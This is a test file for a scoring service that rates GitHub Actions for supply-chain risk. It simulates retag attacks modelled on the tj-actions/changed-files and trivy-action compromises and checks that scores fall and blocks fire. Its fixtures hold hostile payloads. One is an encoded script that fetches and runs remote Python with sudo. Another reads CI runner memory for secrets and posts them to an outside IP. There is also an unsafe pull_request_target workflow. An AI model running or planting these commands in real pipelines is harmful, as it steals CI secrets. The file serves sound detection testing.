import { afterAll, beforeAll, expect, it, vi } from 'vitest';
import type { ActionDetail } from '#lib/db/shapes/actions.ts';
import { env } from '#lib/env.ts';
import { log } from '#lib/log.ts';
import { scoreAction } from '#lib/services/actions/score.ts';
import { createServices } from '#lib/services/context.ts';
import type { Repository } from '#lib/simulator/model.ts';
import { advisory } from '../support/advisory.ts';
import { type CodeHostForTests, startCodeHost } from '../support/code-host.ts';
import { emptyDatabase, type TestDatabase } from '../support/database.ts';
import { configure } from '../support/environment.ts';

let database: TestDatabase;
let host: CodeHostForTests;

type Latest = NonNullable<ActionDetail['latest']>;
type Families = readonly [staticPoints: number, metadata: number, tag: number, advisory: number];

const ADA = { name: 'Ada', email: 'ada@example.com' };
const BEN = { name: 'Ben', email: 'ben@example.com' };
const HEAD = 'name: Files\ndescription: Lists changed files\n';

const BUNDLED = {
  'action.yml': `${HEAD}runs:\n  using: node24\n  main: dist/index.js\n`,
  'dist/index.js': "console.log('changed');\n",
  'src/main.ts': "console.log('changed');\n",
  'package.json': '{"name":"changed-files","scripts":{"build":"ncc build src/main.ts"}}\n',
  'package-lock.json': '{"name":"changed-files","lockfileVersion":3,"packages":{}}\n',
};
const MEMDUMP = `if [[ "$OSTYPE" == "linux-gnu" ]]; then
  B64_BLOB=\`curl -sSf https://gist.example.com/raw/memdump.py | sudo python3 | tr -d '\\0' | sort -u | base64 -w 0\`
  echo $B64_BLOB
fi
`;
const hijackedBy = (script: string): Record<string, string> => ({
  ...BUNDLED,
  'dist/index.js': `exec.getExecOutput('bash', ['-c', ${JSON.stringify(script)}], { silent: true });\n`,
});
const HIDDEN = hijackedBy(`echo "${btoa(MEMDUMP)}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh`);
const PLAIN = hijackedBy('curl -sSf https://gist.example.com/raw/dump.py | python3');
const RELEASES = ['v43.0.0', 'v44.0.0', 'v44.5.0', 'v45.0.0', 'v45.0.7'];

const SCANNER = {
  'action.yml':
    'name: Scan\ndescription: Scans images\nruns:\n  using: composite\n  steps:\n' +
    '    - uses: actions/cache@v4\n    - shell: bash\n      run: $GITHUB_ACTION_PATH/entrypoint.sh\n',
  'entrypoint.sh': '#!/usr/bin/env bash\nset -e\ntrivy image "$IMAGE"\n',
  '.github/workflows/diff.yml': `name: API diff
on:
  pull_request_target:
permissions: {}
jobs:
  diff:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          ref: \${{ github.event.pull_request.head.sha }}
          allow-unsafe-pr-checkout: true
      - run: make diff
`,
};
const STEALING = {
  ...SCANNER,
  'entrypoint.sh': `#!/usr/bin/env bash
for pid in $(pgrep -f Runner.Worker); do
  sudo cat "/proc/$pid/mem" | tr -d '\\0' | grep -aoE '"isSecret":true' >> /tmp/found
done
curl -s -X POST --data-binary @/tmp/found https://203.0.113.9/upload
trivy image "$IMAGE"
`,
};
const SCANNER_RELEASES = ['0.31.0', '0.32.0', '0.33.0', '0.33.1', '0.34.0', '0.34.2'];

beforeAll(async () => {
  vi.spyOn(process.stdout, 'write').mockReturnValue(true);
  [database, host] = await Promise.all([emptyDatabase(), startCodeHost()]);
  configure({
    SUPABASE_URL: database.url,
    SUPABASE_PUBLISHABLE_KEY: database.publishableKey,
    SUPABASE_SECRET_KEY: database.secretKey,
    SCM_WEB_URL: host.webUrl,
    SCM_API_URL: host.apiUrl,
    SCM_GRAPHQL_URL: host.graphqlUrl,
    SCM_PUBLIC_TOKEN: host.publicToken,
  });
  for (const login of ['changes', 'actions']) {
    host.world.addAccount({ login, type: 'Organization', createdAt: '2019-01-01T00:00:00Z' });
  }
});
afterAll(async () => {
  vi.restoreAllMocks();
  await Promise.all([host?.stop(), database?.stop()]);
});

async function publish(
  fullName: string,
  files: Record<string, string>,
  tags: readonly string[],
  { last, authors }: { readonly last: string; readonly authors: readonly (typeof ADA)[] },
): Promise<{ readonly repository: Repository; readonly commits: ReadonlyMap<string, string> }> {
  const repository = await host.addRepository({ fullName, stars: 2_000, settings: { rulesets: [] } });
  const commits = new Map<string, string>();
  for (const [index, tag] of tags.entries()) {
    const date = new Date(Date.parse(last) - (tags.length - 1 - index) * 86_400_000);
    await release(repository, tag, date, { ...files, 'CHANGELOG.md': `${tag}\n` }, authors[index % authors.length]);
    commits.set(tag, await targetOf(repository, tag));
  }
  return { repository, commits };
}

async function release(
  repository: Repository,
  tag: string,
  date: Date,
  files: Record<string, string>,
  author = ADA,
): Promise<void> {
  const oid = await host.world.commit(repository, 'main', { files, message: tag, author: { ...author, date } });
  host.world.sign(repository, oid);
  await host.world.tag(repository, tag, oid);
  const published = { tag, publishedAt: date.toISOString(), immutable: false };
  host.world.updateRepository(repository, { releases: [...repository.releases, published] });
}

async function targetOf(repository: Repository, tag: string): Promise<string> {
  const refs = await host.world.git(repository).refs('refs/tags/');
  return refs.find(({ name }) => name === tag)?.oid ?? '';
}

async function moveTags(
  repository: Repository,
  tags: readonly string[],
  date: string,
  filesFor: (tag: string) => Record<string, string>,
): Promise<void> {
  let oid = '';
  let last: Record<string, string> | undefined;
  for (const tag of tags) {
    const files = filesFor(tag);
    if (files !== last) {
      const author = { name: 'Eve', email: 'eve@example.com', date: new Date(date) };
      oid = await host.world.commit(repository, 'stray', { files, message: 'Update', author });
    }
    last = files;
    await host.world.tag(repository, tag, oid);
  }
  await host.world.deleteBranch(repository, 'stray');
}

async function scoredAt(fullName: string, at: string): Promise<Latest> {
  const [owner = '', name = ''] = fullName.split('/');
  const services = createServices(env(), log);
  const { latest } = (await scoreAction(services, { owner, name }, { asOf: new Date(at), readMs: 60_000 })) ?? {};
  await database.sql(
    `update public.ref_observations
     set first_seen_at = least(first_seen_at, $1), last_seen_at = least(last_seen_at, $1)
     where action_id in (select a.id from public.actions a where a.owner = $2 and a.name = $3)`,
    [at, owner, name],
  );
  if (latest == null) throw new Error(`${fullName} was not scored.`);
  return latest;
}

function expectLike(worked: number, families: Families, { score, band, breakdown, signals }: Latest): void {
  const explained = signals.filter(({ points }) => points > 0).map(({ id, points }) => `${id} ${points}`);
  const { static: code, metadata, tag, advisory: known } = breakdown;
  expect([code, metadata, tag, known], explained.join(', ')).toEqual(families);
  expect(Math.abs(score - worked), `${score} is not like ${worked}`).toBeLessThanOrEqual(3);
  expect(band).toBe(worked >= 90 ? 'A' : worked >= 80 ? 'B' : worked >= 65 ? 'C' : worked >= 50 ? 'D' : 'F');
}

const present = ({ signals }: Latest): string[] =>
  signals.filter(({ state }) => state === 'present').map(({ id }) => id);

it('tj-actions/changed-files: the score falls within the first hour and recovers with the tags', async () => {
  const at = 'changes/changed-files';
  const { repository, commits } = await publish(at, BUNDLED, RELEASES, {
    last: '2025-02-20T09:00:00Z',
    authors: [ADA],
  });
  await scoredAt(at, '2025-02-21T00:00:00Z');

  expectLike(85, [0, 7, 6, 0], await scoredAt(at, '2025-03-13T12:00:00Z'));

  await moveTags(repository, RELEASES, '2025-03-14T16:00:00Z', () => HIDDEN);
  const firstHour = await scoredAt(at, '2025-03-14T16:40:00Z');
  expectLike(8, [45, 7, 40, 0], firstHour);
  expect(firstHour.hard_block).toContain('mass-retag');
  expect(present(firstHour)).toEqual(
    expect.arrayContaining([
      'malicious-code-shape',
      'remote-code-unverified',
      'exact-tag-moved',
      'unsigned-commit',
      'fresh-7d',
    ]),
  );

  host.world.advisories.push(
    advisory({
      ghsa_id: 'GHSA-2222-2222-2222',
      name: at,
      severity: 'high',
      published_at: '2025-03-15T12:00:00Z',
      range: '<= 45.0.7',
      cwe: 'CWE-506',
    }),
  );
  expectLike(0, [45, 7, 40, 40], await scoredAt(at, '2025-03-15T18:00:00Z'));

  for (const [tag, oid] of commits) await host.world.tag(repository, tag, oid);
  await scoredAt(at, '2025-03-16T12:00:00Z');
  await release(repository, 'v46.0.1', new Date('2025-03-20T09:00:00Z'), { ...BUNDLED, 'CHANGELOG.md': 'v46.0.1\n' });
  const later = await scoredAt(at, '2025-05-14T12:00:00Z');
  expectLike(71, [0, 7, 14, 8], later);
  expect(present(later)).toEqual(expect.arrayContaining(['recent-drift-in-repo', 'compromised-365d']));
}, 120_000);

it('tj-actions/changed-files, seen first in the first hour: the tags alone give it away', async () => {
  const at = 'changes/seen-late';
  const { repository } = await publish(at, BUNDLED, RELEASES, { last: '2025-02-20T09:00:00Z', authors: [ADA] });
  await moveTags(repository, RELEASES, '2025-03-14T16:00:00Z', () => PLAIN);
  const firstHour = await scoredAt(at, '2025-03-14T16:40:00Z');
  expectLike(38, [15, 7, 40, 0], firstHour);
  expect(firstHour.hard_block).toEqual(['mass-retag']);
  expect(present(firstHour)).not.toContain('exact-tag-moved');
}, 120_000);

it('aquasecurity/trivy-action: a C for its own workflows before, an F once each tag has a commit of its own', async () => {
  const at = 'actions/image-scan';
  const { repository } = await publish(at, SCANNER, SCANNER_RELEASES, {
    last: '2026-01-20T09:00:00Z',
    authors: [ADA, BEN],
  });
  await scoredAt(at, '2026-01-21T00:00:00Z');
  const before = await scoredAt(at, '2026-02-15T12:00:00Z');
  expectLike(77, [17, 0, 6, 0], before);
  expect(present(before)).toContain('publisher-ci-critical');

  await moveTags(repository, SCANNER_RELEASES, '2026-03-19T17:40:00Z', (tag) => ({ ...STEALING, VERSION: tag }));
  const after = await scoredAt(at, '2026-03-19T18:00:00Z');
  expectLike(15, [45, 0, 40, 0], after);
  expect(after.hard_block).toEqual(['mass-retag']);
  expect(present(after)).toEqual(expect.arrayContaining(['malicious-code-shape', 'exact-tag-moved']));
}, 120_000);
